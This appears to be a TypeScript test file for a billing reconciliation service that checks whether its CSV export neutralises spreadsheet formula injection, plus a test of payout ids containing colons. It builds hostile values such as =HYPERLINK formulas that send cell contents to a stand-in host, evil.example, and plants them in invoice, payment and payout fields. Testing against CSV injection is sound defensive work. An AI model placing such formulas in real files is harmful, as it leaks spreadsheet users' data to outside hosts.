import assert from 'node:assert/strict';
import { parse } from 'csv-parse/sync';
import { auth, createInvoice, deliverInOrder } from '../helpers/billing-client.js';
import { paymentEvents } from '../helpers/payment-events.js';
import { payoutEvents } from '../helpers/payout-events.js';
import { txns } from '../helpers/fake-balance-transactions.js';
import { startReconciliationRig, itemsSettled, type ReconciliationRig } from '../helpers/reconciliation-client.js';
import { uniqueId } from '../helpers/stripe-events.js';

/** Unguarded: what a spreadsheet runs as a formula (OWASP CSV injection). */
const FORMULA_START = /^[=+\-@\t\r]/;
/** Cells that are numbers (amounts in minor units, decimals): a spreadsheet reads them as numbers. */
const NUMBER = /^-?\d+(\.\d+)?$/;
const hostile = (tag: string) => `=HYPERLINK("http://evil.example/?d="&A2,"${tag}-${uniqueId('x').slice(2, 10)}")`;

async function csvRecords(rig: ReconciliationRig): Promise<Record<string, string>[]> {
  const res = await rig.t.http.get('/api/reconciliation/invoices').query({ format: 'csv', limit: '5000' }).set(auth).buffer(true).parse((r, done) => {
    let text = '';
    r.on('data', (chunk: Buffer) => (text += chunk.toString('utf8')));
    r.on('end', () => done(null, text));
  });
  assert.equal(res.status, 200);
  return parse(res.body as string, { columns: true, relax_quotes: false }) as Record<string, string>[];
}

describe('reconciliation CSV: hostile text from signed events', function () {
  this.timeout(60_000);
  let rig: ReconciliationRig;
  before(async () => {
    rig = await startReconciliationRig('csvinject');
  });
  after(() => rig.stop());

  it('every text cell a signed event or an invoice can fill starts with no formula character unguarded; numbers stay numbers', async () => {
    const { t } = rig;
    // An invoice whose number and customer name are formulas, paid by a PaymentIntent and charge whose ids are formulas.
    const invoice = await createInvoice(t, { amountDue: 1_000, number: `+${hostile('number')}`, customer: { name: `@${hostile('name')}`, email: 'ada@example.com' } });
    const paid = paymentEvents({ invoiceId: invoice.id, amount: 1_000, paymentIntentId: hostile('pi'), chargeId: `-${hostile('ch')}` });
    // A payment that names no invoice (listed as unmatched), with formula ids and a formula currency.
    const stray = paymentEvents({ invoiceId: null, amount: 700, paymentIntentId: hostile('stray-pi'), chargeId: `\t${hostile('stray-ch')}` });
    const strayCurrency = paymentEvents({ invoiceId: null, amount: 300, paymentIntentId: `@${hostile('cur-pi')}`, currency: '=1+1' });
    await deliverInOrder(t, [
      paid.paymentIntent('payment_intent.succeeded'),
      paid.charge('charge.succeeded'),
      stray.paymentIntent('payment_intent.succeeded'),
      stray.charge('charge.succeeded'),
      strayCurrency.paymentIntent('payment_intent.succeeded'),
    ]);
    // A payout with a formula id paying both out.
    const items = [
      txns.charge({ chargeId: paid.chargeId, paymentIntentId: paid.paymentIntentId, amount: 1_000, fee: 59 }),
      txns.charge({ chargeId: stray.chargeId, paymentIntentId: stray.paymentIntentId, amount: 700, fee: 50 }),
    ];
    const amount = items.reduce((sum, i) => sum + i.net, 0);
    const payout = payoutEvents({ amount, id: `=HYPERLINK("http://evil.example/?d="&A2,"po")-${uniqueId('po')}` });
    rig.balance.set(payout.id, [txns.payout({ payoutId: payout.id, amount, id: payout.balanceTransactionId }), ...items]);
    await deliverInOrder(t, [payout.event('payout.paid')]);
    await itemsSettled(t, payout.id);

    const records = await csvRecords(rig);
    const row = records.find((r) => r.id === invoice.id);
    assert.ok(row, 'the invoice is in the CSV');
    assert.equal(row.invoice_number, `'${invoice.number}`, 'the text itself is kept, behind an apostrophe');
    assert.equal(row.payout_ids, `'${payout.id}`);
    assert.ok(records.some((r) => r.record_type === 'unmatched_payment' && r.id === `'${stray.paymentIntentId}`), 'the unmatched payment is listed, guarded');
    assert.equal(Number(row.amount_due), 1_000);
    assert.equal(row.net, '941', 'an amount is a bare number');

    const unguarded = records.flatMap((r) => Object.entries(r).filter(([, cell]) => FORMULA_START.test(cell) && !NUMBER.test(cell)).map(([column, cell]) => `${r.id} ${column}: ${cell}`));
    assert.deepEqual(unguarded, []);
  });

  it("reconciles a payout whose id has a ':' (BullMQ refuses it in a job id) and the payouts dispatched with it", async () => {
    const { t } = rig;
    const payouts = [payoutEvents({ amount: 0, id: `po:${uniqueId('x')}` }), payoutEvents({ amount: 0, id: `po%3A${uniqueId('y')}` }), payoutEvents({ amount: 0 })];
    for (const payout of payouts) rig.balance.set(payout.id, [txns.payout({ payoutId: payout.id, amount: 0, id: payout.balanceTransactionId })]);
    await deliverInOrder(t, payouts.map((p) => p.event('payout.paid')));
    for (const payout of payouts) assert.equal((await itemsSettled(t, payout.id)).items_status, 'done', payout.id);
  });
});
